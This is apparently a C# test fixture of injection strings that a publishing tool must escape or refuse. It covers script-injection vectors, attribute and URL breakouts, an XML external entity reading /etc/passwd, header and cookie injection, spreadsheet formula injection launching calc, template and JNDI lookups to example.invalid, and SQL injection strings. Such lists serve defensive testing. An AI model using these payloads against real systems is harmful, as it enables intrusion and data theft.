namespace Publisher.Tests;

/// <summary>
/// Texts that somebody may put into a form to make a page, a data file or a program that opens it do his will. Each
/// of them may stand in a file; what may not is in <see cref="Refused"/>. A script that runs sets <c>top.ran</c>.
/// </summary>
public static class HostileTexts
{
    private const string Run = "top.ran=1";

    private static readonly string[] Scripts =
    [
        $"<script>{Run}</script>",
        $"<ScRiPt>{Run}</sCrIpT>",
        $"<script\n>{Run}</script\n>",
        "<script src=data:text/javascript,top.ran=1></script>",
        $"<img src=x onerror={Run}>",
        $"<img/src=x/onerror={Run}>",
        $"<svg onload={Run}>",
        $"<svg><script>{Run}</script></svg>",
        $"<svg><animate onbegin={Run} attributeName=x>",
        $"<body onload={Run}>",
        $"<iframe srcdoc='<script>{Run}</script>'></iframe>",
        $"<iframe src=javascript:{Run}></iframe>",
        $"<details open ontoggle={Run}>",
        $"<video><source onerror={Run}></video>",
        $"<input autofocus onfocus={Run}>",
        $"<a href=javascript:{Run} autofocus>x</a>",
        $"<math><mtext></p><img src=x onerror={Run}></mtext></math>",
        $"<object data=javascript:{Run}>",
        $"<embed src=javascript:{Run}>",
        $"<form action=javascript:{Run}><button>x</button></form>",
        $"<template><script>{Run}</script></template>",
        $"<noscript><p title='</noscript><img src=x onerror={Run}>'>",
        $"<style>@import 'javascript:{Run}';</style>",
        "<link rel=stylesheet href=//example.invalid/x.css>",
        "<meta http-equiv=refresh content='0;url=//example.invalid/'>",
        "<base href=//example.invalid/>",
        $"<x onclick={Run}>",
        "<!--",
        "<![CDATA[",
        "<?php echo 1 ?>",
        "<%= 7*7 %>",
        "<",
        "&#60;script&#62;",
        "&lt;script&gt;",
        "&#x3c;img&#x20;src=x&#x20;onerror=top.ran=1&#x3e;",
        "＜script＞top.ran=1＜/script＞",
    ];

    private static readonly string[] WaysOut =
    [
        "",
        "\"",
        "'",
        "\">",
        "'>",
        "\" ",
        "' ",
        "`>",
        "</title>",
        "</h1>",
        "</td></tr></table>",
        "</script>",
        "</style>",
        "</textarea>",
        "</svg>",
        "-->",
        "]]>",
        "/>",
        "\n",
        "\\\"",
        "\\u003c",
        "}}",
        "*/",
        "[?]".Replace("?", "？", StringComparison.Ordinal),
        "甲\u3000",
        "'\"`><!--",
        "</caption></li></ul>",
        "&quot;>",
        "\",\"indicators\":[{\"unreadable\":null}],\"corrections\":[",
    ];

    private static readonly string[] Attributes =
    [
        $"\" onmouseover=\"{Run}",
        $"' onmouseover='{Run}",
        $"\" onfocus={Run} autofocus x=\"",
        $"x\" style=\"background:url(javascript:{Run})",
        "x' style='position:fixed;inset:0",
        "\" id=\"main\" class=\"x",
        "\" hidden x=\"",
        "\"onclick=alert`1`//",
        "\t\"\tonload\t=\t\"x",
        "\n\"\nonload\n=\n\"x",
    ];

    private static readonly string[] Addresses =
    [
        "javascript:top.ran=1",
        "JaVaScRiPt:top.ran=1",
        "java\tscript:top.ran=1",
        "java\nscript:top.ran=1",
        " javascript:top.ran=1",
        "javascript&colon;top.ran=1",
        "javascript://x%0atop.ran=1",
        "data:text/html,<script>top.ran=1</script>",
        "data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4=",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "//example.invalid/",
        "https://example.invalid/?a=1&b=2",
        "\\\\example.invalid\\share",
        "http://[::1]/",
        "mailto:a%40example.invalid?bcc=b%40example.invalid",
        "#main",
        "?page=1",
        "blob:x",
        "about:blank",
    ];

    private static readonly string[] Styles =
    [
        "red;}*{display:none}",
        "expression(top.ran=1)",
        "url(javascript:top.ran=1)",
        "@import url(//example.invalid/x.css);",
        "</style><script>top.ran=1</script>",
        "\\3c script\\3e",
        "/*",
        "*/",
        "-moz-binding:url(x)",
        "behavior:url(x.htc)",
    ];

    private static readonly string[] Data =
    [
        "\",\"isAdmin\":true,\"x\":\"",
        "\"}]}</script><script>top.ran=1</script>",
        "\\",
        "\\\"",
        "\\u0022",
        "\\ud83d",
        "\"],[\"",
        "{\"__proto__\":{\"x\":1}}",
        "__proto__",
        "constructor",
        "prototype",
        "toString",
        "null",
        "undefined",
        "NaN",
        "true",
        "[object Object]",
        "{\"@context\":\"https://schema.org\",\"@type\":\"Person\"}",
        "</script>",
        "<!--<script>",
        "]]><x/>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
        "&e;",
        "&amp;",
        "&#0;",
        "<?xml version=\"1.0\"?>",
        "</loc></url><url><loc>https://example.invalid/",
        "</title></item><item><title>x",
        "xmlns:x='http://www.w3.org/1999/xhtml'",
        "x\nContent-Type: text/html\n\n<script>top.ran=1</script>",
        "x%0d%0aSet-Cookie:%20a=b",
        "x\nSet-Cookie: a=b",
        "Location: //example.invalid/",
    ];

    private static readonly string[] Formulas =
    [
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")",
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1+1)",
        "\t=1+1",
        "\n=1+1",
        "＝1+1",
        "=IMPORTXML(\"http://example.invalid/\",\"//a\")",
        "=WEBSERVICE(\"http://example.invalid/\")",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "'=1+1",
        "\"=1+1\"",
        ";=1+1",
        "%0A=1+1",
        "|calc",
        "a,b;c\td",
        "\"\"\"",
        "a\"\nb",
    ];

    private static readonly string[] Templates =
    [
        "{{ page }}",
        "{{ include \"parts/title.html\" }}",
        "{{ 7 * 7 }}",
        "{{ while true }}{{ end }}",
        "{{- x -}}",
        "{{",
        "}}",
        "{%  %}",
        "{# #}",
        "{count}",
        "{id}",
        "{title}",
        "{0}",
        "{",
        "}",
        "{{{{raw}}}}",
        "${7*7}",
        "#{7*7}",
        "@(7*7)",
        "*{7*7}",
        "[[7*7]]",
        "<%- 7 %>",
        "{{constructor.constructor('top.ran=1')()}}",
        "$(id)",
        "`id`",
        "%s%s%n",
        "${jndi:ldap://example.invalid/x}",
        "<!--#exec cmd=\"id\"-->",
        "'; DROP TABLE records; --",
        "' OR '1'='1",
        "[x](javascript:top.ran=1)",
        "![x](x onerror=top.ran=1)",
        "<https://example.invalid/>",
        "# 标题",
        "- 一\n- 二",
        "| a | b |\n|---|---|",
        "```html\n<script>\n```",
        "**粗**_斜_~~删~~",
        "[^1]: x",
        ":::warning",
        "---\ntitle: x\n---",
        "- name: x\n  score: 100",
        "grade: 优 # 注",
        "&a *a !!str",
        "%YAML 1.2",
        "...",
        "'",
        "''",
        "\"",
        "[]",
        "{}",
        "~",
        ":",
        "?",
        "-",
        "|",
        ">",
    ];

    /// <summary>More than 2,000, each once, none longer than a line of the form.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        .. WaysOut
            .SelectMany(way => Scripts.Select(script => way + script))
            .Concat(Around(Attributes))
            .Concat(Around(Addresses))
            .Concat(Around(Styles))
            .Concat(Around(Data))
            .Concat(Around(Formulas))
            .Concat(Around(Templates))
            .Concat(Around(OddTexts.Paths))
            .Concat(OddTexts.Hidden)
            .Concat(OddTexts.Written)
            .Where(t => t.Length <= 300 && !string.IsNullOrWhiteSpace(t))
            .Distinct(StringComparer.Ordinal),
    ];

    /// <summary>What no text may hold; a file with one of these is refused.</summary>
    public static IReadOnlyList<string> Refused { get; } =
    [
        .. Enumerable.Range(0, 32).Where(c => c is not '\t' and not '\n').Select(c => $"甲{(char)c}乙"),
        .. Enumerable.Range(0x7F, 33).Select(c => $"甲{(char)c}乙"),
        .. "\u2028\u2029\uFEFF\uFDD0\uFDEF\uFFFE\uFFFF".Select(c => $"甲{c}乙"),
        .. Enumerable.Range(1, 16).Select(plane => char.ConvertFromUtf32((plane << 16) | 0xFFFE)),
    ];

    /// <summary>Alone, and behind, in front of and between what belongs there.</summary>
    private static IEnumerable<string> Around(string[] texts) =>
        texts.SelectMany(t => new[] { t, "示例" + t, t + "示例", $"「{t}」", $"{t} & {t}" });
}
